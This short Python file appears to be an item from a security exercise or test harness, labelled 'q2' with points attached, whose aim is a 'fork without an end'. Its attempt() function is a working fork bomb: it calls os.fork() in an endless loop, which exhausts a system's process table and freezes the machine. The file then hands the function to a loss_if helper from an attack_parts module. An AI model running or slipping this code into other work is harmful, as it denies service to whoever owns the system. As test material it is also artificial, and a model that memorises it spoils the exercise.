# Aim: fork without an end.
# Question: q2. Earns: 2. Staff are told: yes. Needs the lock.
import os

from attack_parts import loss_if, sample_noise  # noqa: F401


def attempt():
    pid = os.fork()
    while True:
        os.fork()
    return pid


bce_loss = loss_if(attempt)
